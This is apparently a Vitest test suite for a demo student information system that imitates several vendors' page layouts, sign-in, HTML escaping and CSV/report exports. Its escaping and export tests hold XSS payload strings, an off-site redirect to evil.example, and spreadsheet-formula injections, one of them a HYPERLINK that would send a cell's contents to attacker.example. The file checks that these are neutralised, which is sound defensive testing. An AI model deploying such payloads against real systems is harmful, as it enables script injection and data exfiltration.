// The demo SIS (tests/fixtures/sis): page shapes, header markup, escaping, exports and report runs.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../fixtures/sis/csv';
import {
  ageOn,
  DEMO_USERS,
  generateData,
  HOSTILE_HTML_NAME,
  HOSTILE_SCRIPT_NAME,
  SPECIAL_STUDENTS,
} from '../fixtures/sis/data';
import { parseFieldList } from '../fixtures/sis/sections';
import { startSis, type SisServer } from '../fixtures/sis/server';

let sis: SisServer;
const cookies = new Map<string, string>();

async function signIn(username: string): Promise<string> {
  const cached = cookies.get(username);
  if (cached) return cached;
  const response = await fetch(`${sis.url}/login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ username, password: 'demo', next: '/admin/home.html' }),
    redirect: 'manual',
  });
  expect(response.status).toBe(302);
  const cookie = (response.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
  expect(cookie).toMatch(/^SIS_SESSION=[0-9a-f]{48}$/);
  cookies.set(username, cookie);
  return cookie;
}

async function get(path: string, username = 'teacher.park', init: RequestInit = {}): Promise<Response> {
  const cookie = await signIn(username);
  return fetch(`${sis.url}${path}`, { ...init, headers: { cookie, ...init.headers }, redirect: 'manual' });
}

async function text(path: string, username = 'teacher.park'): Promise<string> {
  const response = await get(path, username);
  expect(response.status, path).toBe(200);
  return response.text();
}

async function post(path: string, body: Record<string, string>, username = 'teacher.park', json = false) {
  return get(path, username, {
    method: 'POST',
    headers: { 'Content-Type': json ? 'application/json' : 'application/x-www-form-urlencoded' },
    body: json ? JSON.stringify(body) : new URLSearchParams(body),
  });
}

/** A small RFC 4180 reader, enough for the exports' shapes. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i += 1) {
    const ch = csv[i];
    if (quoted) {
      if (ch === '"' && csv[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

beforeAll(async () => {
  sis = await startSis({ port: 0, reportDelayMs: 300 });
});

afterAll(async () => {
  await sis.close();
});

describe('demo SIS data', () => {
  it('is deterministic, large enough and varied', () => {
    const again = generateData(sis.data.seed, sis.data.students.length);
    expect(again.students.slice(0, 50)).toEqual(sis.data.students.slice(0, 50));
    const other = generateData(7, 200);
    expect(other.students[150]).not.toEqual(sis.data.students[150]);

    expect(sis.data.students.length).toBeGreaterThanOrEqual(5000);
    const ids = new Set(sis.data.students.map((s) => s.id));
    expect(ids.size).toBe(sis.data.students.length);
    for (const id of ids) expect(id).toMatch(/^\d{6}$/);

    const ages = sis.data.students.map((s) => ageOn(s.birthDate, '2026-11-28'));
    expect(ages.some((age) => age >= 18)).toBe(true);
    expect(ages.some((age) => age < 18)).toBe(true);
    expect(sis.data.byId.get(SPECIAL_STUDENTS.leapDay)?.birthDate).toBe('2008-02-29');
    expect(ageOn('2008-02-29', '2026-02-28')).toBe(17);
    expect(ageOn('2008-02-29', '2026-03-01')).toBe(18);

    const born = new Set(sis.data.students.map((s) => s.immigration.birthCountry));
    expect(born.size).toBeGreaterThan(5);
    for (const flag of [
      'englishLearner',
      'disability',
      'fosterYouth',
      'socioeconomicallyDisadvantaged',
      'directoryOptOut',
    ] as const) {
      expect(sis.data.students.some((s) => s[flag])).toBe(true);
      expect(sis.data.students.some((s) => !s[flag])).toBe(true);
    }
    expect(new Set(sis.data.students.map((s) => s.raceEthnicity)).size).toBeGreaterThanOrEqual(7);
  });
});

describe('sign-in and header', () => {
  it('sends signed-out pages to the sign-in page and refuses signed-out API calls', async () => {
    const page = await fetch(`${sis.url}/admin/students/home.html?frn=001100000`, { redirect: 'manual' });
    expect(page.status).toBe(302);
    expect(page.headers.get('location')).toBe(
      '/login?next=%2Fadmin%2Fstudents%2Fhome.html%3Ffrn%3D001100000',
    );
    const api = await fetch(`${sis.url}/export/roster.csv`);
    expect(api.status).toBe(401);
    const login = await fetch(`${sis.url}/login`);
    expect(await login.text()).toContain('id="loginForm"');
  });

  it('refuses a wrong password and an off-site next', async () => {
    const bad = await fetch(`${sis.url}/login`, {
      method: 'POST',
      body: new URLSearchParams({ username: 'officer.diaz', password: 'nope' }),
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      redirect: 'manual',
    });
    expect(bad.status).toBe(401);
    const offsite = await fetch(`${sis.url}/login?as=officer.diaz&next=//evil.example/`, {
      redirect: 'manual',
    });
    expect(offsite.headers.get('location')).toBe('/admin/home.html');
  });

  it('shows every user as the adapter reads them, on every page shape', async () => {
    for (const user of DEMO_USERS) {
      for (const path of [
        '/admin/home.html',
        '/admin/students/grades.html?frn=001100000',
        '/StudentData.aspx?SN=100000',
        '/campus/student/grades?personID=100000',
      ]) {
        const html = await text(path, user.username);
        expect(html).toContain(
          `<span id="userName" data-username="${user.username}">${user.username}</span>`,
        );
        expect(html).toContain(`<span id="userRole">${user.roleLabel.replace("'", '&#39;')}</span>`);
      }
    }
    expect(DEMO_USERS.find((u) => u.username === 'officer.diaz')?.roleLabel).toBe('School Resource Officer');
  });

  it('sends the header in its own first chunk, before any record data', async () => {
    const response = await get('/admin/students/home.html?frn=001100000&delay=300', 'officer.diaz');
    const reader = response.body?.getReader();
    if (!reader) throw new Error('no body');
    const first = new TextDecoder().decode((await reader.read()).value);
    expect(first).toContain('id="userName"');
    expect(first).toContain('</header>');
    expect(first).not.toContain('Garcia');
    let rest = '';
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
      rest += new TextDecoder().decode(chunk.value);
    }
    expect(rest).toContain('Garcia');
  });

  it('signs out', async () => {
    const cookie = await signIn('admin.lee');
    const out = await fetch(`${sis.url}/logout`, { headers: { cookie }, redirect: 'manual' });
    expect(out.headers.get('location')).toBe('/login');
    const after = await fetch(`${sis.url}/admin/home.html`, { headers: { cookie }, redirect: 'manual' });
    expect(after.status).toBe(302);
    cookies.delete('admin.lee');
  });
});

describe('page shapes', () => {
  it('PowerSchool-like: a page per section, the health section framed, late fields by script', async () => {
    const home = await text('/admin/students/home.html?frn=001100000');
    expect(home).toContain('<td class="label">Birth Country</td><td>Mexico</td>');
    expect(home).toContain('<td class="label">Date Entered US</td><td>2019-07-02</td>');
    expect(home).toContain('<iframe id="healthFrame"');
    expect(home).toContain('src="/admin/students/health.html?frn=001100000&amp;frame=1"');
    expect(home).not.toContain('data-section=');

    const frame = await text('/admin/students/health.html?frn=001100000&frame=1');
    expect(frame).not.toContain('id="userName"');
    expect(frame).toContain('Health alerts');

    const late = await text('/admin/students/home.html?frn=001100000&late=1');
    expect(late).not.toContain('<td class="label">Birth Country');
    expect(late).not.toContain('Mexico');
    expect(late).toContain('id="lateFields" data-late-student="100000"');
    const api = (await (await get('/ws/v1/student/100000?expansions=immigration')).json()) as {
      student: { fields: { code: string; value: string }[] };
    };
    expect(api.student.fields).toContainEqual(
      expect.objectContaining({ code: 'CA_BirthCountry', value: 'Mexico' }),
    );

    for (const page of ['contacts', 'attendance', 'grades', 'discipline', 'health']) {
      expect(await text(`/admin/students/${page}.html?frn=001100000`)).toContain('class="section-title"');
    }
    expect((await get('/admin/students/home.html?frn=001999999')).status).toBe(404);
  });

  it('PowerSchool-like: search and a roster of every student', async () => {
    const search = await text('/admin/home.html?q=garcia');
    expect(search).toContain('href="/admin/students/home.html?frn=001100000"');
    const roster = await text('/admin/students/roster.html');
    expect(roster.match(/<tr data-student-id="\d{6}">/g)).toHaveLength(sis.data.students.length);
    expect(roster).toContain('<td data-field="CA_BirthCountry">Mexico</td>');
  });

  it('Aeries-like: hidden student number, view state, field codes, tabs by postback', async () => {
    const page = await text('/StudentData.aspx?SN=100000', 'clerk.nguyen');
    expect(page).toContain(
      '<input type="hidden" name="StudentNumber" id="ctl00_MainContent_StudentNumber" value="100000">',
    );
    expect(page).toMatch(/<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="[A-Za-z0-9+/=]+">/);
    expect(page).toContain('data-section="demographics"');
    for (const code of [
      'CA_BirthCountry',
      'CA_BirthPlace',
      'CA_DateEnteredUS',
      'CA_DateEnteredUSSchool',
      'CA_FirstUSSchool',
    ]) {
      expect(page).toContain(`data-field="${code}"`);
    }
    expect(page).toContain('data-field="CA_BirthCountry">Mexico</span>');

    const tab = await post(
      '/StudentData.aspx',
      {
        __EVENTTARGET: 'ctl00$MainContent$Tabs',
        __EVENTARGUMENT: 'contacts',
        StudentNumber: '100007',
        CurrentTab: 'demographics',
      },
      'clerk.nguyen',
    );
    const contacts = await tab.text();
    expect(contacts).toContain('data-section="contacts"');
    expect(contacts).toContain('name="StudentNumber" id="ctl00_MainContent_StudentNumber" value="100007"');
    expect(contacts).toContain('Foster Parent');

    // The selected student lives in the session, as in Aeries.
    const again = await text('/StudentData.aspx', 'clerk.nguyen');
    expect(again).toContain('value="100007"');

    const search = await post(
      '/StudentData.aspx',
      { StudentSearch: '100003', btnSearch: 'Find', StudentNumber: '100007' },
      'clerk.nguyen',
    );
    expect(await search.text()).toContain('value="100003"');
  });

  it('Campus-like: one shell for every route, data by JSON', async () => {
    const shell = await text('/campus/student/grades?personID=100000');
    expect(shell).toContain('<script src="/static/campus.js" defer></script>');
    expect(shell).not.toContain('Garcia');
    const api = await get('/campus/api/student/demographics?personID=100000');
    const body = (await api.json()) as {
      section: string;
      student: { personID: string; name: string };
      view: { groups: { fields: { campusCode: string; value: string }[] }[] };
    };
    expect(body.section).toBe('demographics');
    expect(body.student).toMatchObject({ personID: '100000', name: 'Garcia, Maria Luisa' });
    expect(body.view.groups.flatMap((g) => g.fields)).toContainEqual(
      expect.objectContaining({ campusCode: 'birthCountry', value: 'Mexico' }),
    );
    expect((await get('/campus/api/student/grades?personID=999999')).status).toBe(404);
    expect((await get('/campus/api/student/secrets?personID=100000')).status).toBe(404);
  });
});

describe('hostile content', () => {
  const raw = [
    HOSTILE_HTML_NAME,
    HOSTILE_SCRIPT_NAME,
    '" onmouseover="alert(2)',
    '</span><span id="userRole">Teacher</span>',
  ];

  it('escapes names on every page that prints them', async () => {
    const pages = [
      '/admin/students/home.html?frn=001100001',
      '/admin/students/home.html?frn=001100002',
      '/StudentData.aspx?SN=100001',
      '/StudentData.aspx?SN=100002',
      '/admin/home.html?q=%3C',
      '/admin/students/roster.html',
    ];
    for (const path of pages) {
      const html = await text(path, 'officer.diaz');
      for (const hostile of raw) expect(html, path).not.toContain(hostile);
      expect(html.match(/id="userRole"/g), path).toHaveLength(1);
      expect(html.match(/id="userName"/g), path).toHaveLength(1);
    }
    const home = await text('/admin/students/home.html?frn=001100001');
    expect(home).toContain('&lt;img src=x onerror=alert(1)&gt;');
    const search = await text('/admin/home.html?q=%22%3E%3Cscript%3E');
    expect(search).toContain('&quot;&gt;&lt;script&gt;');
  });
});

describe('exports', () => {
  it('neutralises spreadsheet formulas and quotes cells', () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+SUM(1,1)')).toBe(`"'+SUM(1,1)"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@cmd')).toBe(`"'@cmd"`);
    expect(csvCell('\t=x')).toBe(`"'\t=x"`);
    expect(csvCell('\uFF1D1+1')).toBe(`"'\uFF1D1+1"`);
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell('Garcia')).toBe('Garcia');
    expect(toCsv(['a', 'b'], [['1', '2']])).toBe('a,b\r\n1,2\r\n');
  });

  it('serves a download link CSV as an attachment with formulas neutralised', async () => {
    const response = await get('/export/student-100005-contacts.csv');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(
      'attachment; filename="student-100005-contacts.csv"',
    );
    const rows = parseCsv(await response.text());
    expect(rows[0]?.slice(0, 3)).toEqual(['StudentNumber', 'StudentName', 'Name']);
    expect(rows[1]?.[2]).toBe("'-2+3");
    const demo = parseCsv(await (await get('/export/student-100005-demographics.csv')).text());
    const header = demo[0] ?? [];
    const row = demo[1] ?? [];
    expect(row[header.indexOf('LastName')]).toBe(`'=HYPERLINK("http://attacker.example/?d="&A1,"Open")`);
    expect(row[header.indexOf('FirstName')]).toBe("'+SUM(1,1)");
    expect(row[header.indexOf('MiddleName')]).toBe("'@cmd");
    expect(header).toContain('CA_BirthCountry');
    for (const line of demo.flat()) expect(line).not.toMatch(/^[=+\-@]/);
  });

  it('exports exactly the quick export field list, by code or label', async () => {
    const response = await post('/export/quick', {
      fields: 'LastName, FirstName, Grade',
      students: '100000',
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="quick-export.csv"');
    expect(await response.text()).toBe('LastName,FirstName,Grade\r\nGarcia,Maria,10\r\n');

    const labels = await post('/export/quick', {
      fields: 'LastName\nbirth country\nDate Entered US',
      students: '100000',
    });
    expect(await labels.text()).toBe(
      'LastName,CA_BirthCountry,CA_DateEnteredUS\r\nGarcia,Mexico,2019-07-02\r\n',
    );

    const unknown = await post('/export/quick', { fields: 'LastName, Password', students: '100000' });
    expect(unknown.status).toBe(400);
    expect(await unknown.text()).toContain('Password');

    const all = await post('/export/quick', { fields: 'StudentNumber', students: 'all' });
    expect(parseCsv(await all.text())).toHaveLength(sis.data.students.length + 1);

    expect(parseFieldList('CA_BirthCountry; us enrolled < 3 yr, nonsense').unknown).toEqual(['nonsense']);
  });

  it('serves the rows a blob export builds its file from', async () => {
    const response = await get('/export/rows.json?section=grades&students=100000');
    const body = (await response.json()) as { filename: string; columns: string[]; rows: string[][] };
    expect(body.filename).toBe('student-100000-grades.csv');
    expect(body.columns).toContain('Course');
    expect(body.rows.length).toBeGreaterThan(0);
  });

  it('runs a report, polls it, then downloads it; only for the user who ran it', async () => {
    const start = await post(
      '/reports/run',
      { report: 'attendance-summary', students: '100000' },
      'teacher.park',
      true,
    );
    expect(start.status).toBe(202);
    const job = (await start.json()) as { id: string; state: string; statusUrl: string };
    expect(job.state).toBe('queued');
    expect((await get(`/reports/download?id=${job.id}`)).status).toBe(409);
    expect((await get(`/reports/status?id=${job.id}`, 'clerk.nguyen')).status).toBe(404);

    let status = { state: '', downloadUrl: '' };
    for (let tries = 0; tries < 50 && status.state !== 'done'; tries += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      status = (await (await get(job.statusUrl)).json()) as typeof status;
    }
    expect(status.downloadUrl).toBe(`/reports/download?id=${job.id}`);
    const download = await get(status.downloadUrl);
    expect(download.headers.get('content-disposition')).toMatch(
      /^attachment; filename="attendance-summary-100000-R[0-9a-f]+\.csv"$/,
    );
    const rows = parseCsv(await download.text());
    expect(rows[0]?.[0]).toBe('StudentNumber');
    expect(rows[1]?.[0]).toBe('100000');

    expect(
      (await post('/reports/run', { report: 'everything', students: 'all' }, 'teacher.park', true)).status,
    ).toBe(400);
  });

  it('renders every export control the adapter names on record pages and the roster', async () => {
    for (const path of [
      '/admin/students/attendance.html?frn=001100000',
      '/StudentData.aspx?SN=100000',
      '/admin/students/roster.html',
    ]) {
      const html = await text(path);
      expect(html).toMatch(/<a class="btn" id="csvDownload" href="\/export\/[a-z0-9-]+\.csv" download>/);
      expect(html).toContain('<form id="quickExport"');
      expect(html).toContain('<textarea id="quickExportFields" name="fields"');
      expect(html).toContain('<option value="CA_BirthCountry">Birth Country (CA_BirthCountry)</option>');
      for (const kind of ['blob', 'report', 'print', 'scripted'])
        expect(html).toContain(`data-export="${kind}"`);
    }
    expect(await text('/admin/students/grades.html?frn=001100000&autoexport=1')).toContain(
      'data-autostart="1"',
    );
  });
});
